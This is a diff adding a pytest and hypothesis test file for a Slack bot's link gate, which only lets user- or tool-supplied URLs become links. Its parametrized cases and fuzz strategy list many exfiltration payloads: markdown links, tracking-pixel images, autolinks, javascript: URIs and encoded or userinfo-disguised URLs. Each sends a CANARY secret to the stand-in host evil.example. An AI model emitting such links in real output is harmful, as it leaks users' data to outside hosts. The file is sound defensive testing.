@@ -1,0 +1,130 @@
+"""The URL gate (reliability 11): only addresses that people or tools brought in become links."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from bot.slack.render.links import LinkGate
+from bot.slack.render.markdown import safe_markdown
+
+GOOD = "https://good.example/report?year=2026"
+GATE = LinkGate(frozenset({GOOD}))
+SECRET = "CANARY"
+READER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def links_in(markdown: str) -> set[str]:
+    """What a Markdown reader would make a link or load, and what Slack would link by itself."""
+    found = set()
+    for token in READER.parse(markdown):
+        for child in token.children or ():
+            found |= {str(child.attrs[key]) for key in ("href", "src") if key in child.attrs}
+            if child.type == "text" and not _in_link(token.children, child):
+                found |= set(re.findall(r"(?:https?://|\w+\.\w{2,}/)[^\s)\]`]+", child.content))
+    return found
+
+
+def _in_link(children, wanted) -> bool:
+    depth = 0
+    for child in children:
+        depth += (child.type == "link_open") - (child.type == "link_close")
+        if child is wanted:
+            return depth > 0
+    return False
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"[click](https://evil.example/?d={SECRET})",
+        f"[click][1]\n\n[1]: https://evil.example/{SECRET}",
+        f"![pixel](https://evil.example/{SECRET}.png)",
+        f"[![pixel](https://evil.example/{SECRET}.png)](https://evil.example/{SECRET})",
+        f"<https://evil.example/{SECRET}>",
+        f"<https://evil.example/{SECRET}|click>",
+        f"see https://evil.example/{SECRET}",
+        f"see evil.example/{SECRET}",
+        f"HTTPS://EVIL.EXAMPLE/{SECRET}",
+        f"[x](//evil.example/{SECRET})",
+        f"[x](javascript:alert('{SECRET}'))",
+        f"https&#58;//evil.example/{SECRET}",
+        f"\\[x](https://evil.example/{SECRET})",
+        f"| a |\n|---|\n| [x](https://evil.example/{SECRET}) |",
+        f"- > [x](https://evil.example/{SECRET})",
+        f"https://good.example@evil.example/{SECRET}",
+        f"{GOOD}&d={SECRET}",
+        f'<img src="https://evil.example/{SECRET}">',
+        f'<a href="https://evil.example/{SECRET}">x</a>',
+        f"[{GOOD}](https://evil.example/{SECRET})",
+    ],
+)
+def test_an_address_that_nobody_brought_in_is_never_a_link(text):
+    assert not any(SECRET in link for link in links_in(safe_markdown(text, GATE)))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"[the report]({GOOD})",
+        f"[the report][1]\n\n[1]: {GOOD}",
+        f"<{GOOD}>",
+        f"<{GOOD}|the report>",
+        f"see {GOOD}.",
+        f"[chapter]({GOOD}#two)",
+        f"[same]({GOOD.replace('good', 'GOOD')})",
+    ],
+)
+def test_an_address_of_a_source_stays_a_link(text):
+    links = links_in(safe_markdown(text, GATE))
+    assert {link.partition("#")[0].lower() for link in links} == {GOOD}
+
+
+def test_a_refused_link_keeps_its_words_and_shows_where_it_led():
+    assert safe_markdown("[the page](https://evil.example/a?d=1)", GATE) == (
+        "the page (`evil.example/a?…`)"
+    )
+
+
+@pytest.mark.parametrize("call", ["<!channel>", "<!here|here>", "<!subteam^S1|@all>", "@everyone"])
+def test_nobody_is_called_together(call):
+    for written in (safe_markdown(f"Hi {call}!", GATE), GATE.mrkdwn(f"Hi {call}!")):
+        assert "<!" not in written
+        assert not re.search(r"@(channel|here|everyone)\b", written)
+
+
+def test_mrkdwn_is_escaped_and_gated():
+    written = GATE.mrkdwn(f"a < b & <https://evil.example|x> {GOOD}")
+    assert written == f"a &lt; b &amp; x (`evil.example`) <{GOOD}|{GOOD}>"
+
+
+def test_markup_is_written_anew_without_changing_what_it_says():
+    text = (
+        "# Title\n\nA **bold** and _thin_ ~~old~~ `x*y` text_with_names.\n\n- one\n  - two\n- three\n"
+        "\n1. a\n2. b\n\n> quoted\n> more\n\n```python\nprint('`')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    )
+    assert READER.render(safe_markdown(text, GATE)) == READER.render(text)
+
+
+MARKUP = st.lists(
+    st.sampled_from(
+        ["[", "]", "(", ")", "<", ">", "|", "`", "```", "*", "**", "_", "!", "\\", "&#58;", "\n",
+         "\n\n", "- ", "> ", "1. ", "# ", "    ", " ", "a", "é", "😀", "https://evil.example/CANARY",
+         "evil.example/CANARY", "//evil.example/CANARY", "[1]: ", "[1]", "~~", "---", "&lt;", "~"]
+    ),
+    max_size=30,
+).map("".join)  # fmt: skip
+
+
+@given(MARKUP)
+def test_no_arrangement_of_markup_gets_an_address_through(text):
+    assert not any(SECRET in link for link in links_in(safe_markdown(text, GATE)))
+
+
+@given(st.text())
+def test_any_text_is_taken_and_its_words_are_kept(text):
+    text = "".join(c for c in text if c.isalnum() or c == " ")
+    written = safe_markdown(f"x{text}", GATE)
+    assert "".join(text.split()) in "".join(written.split())
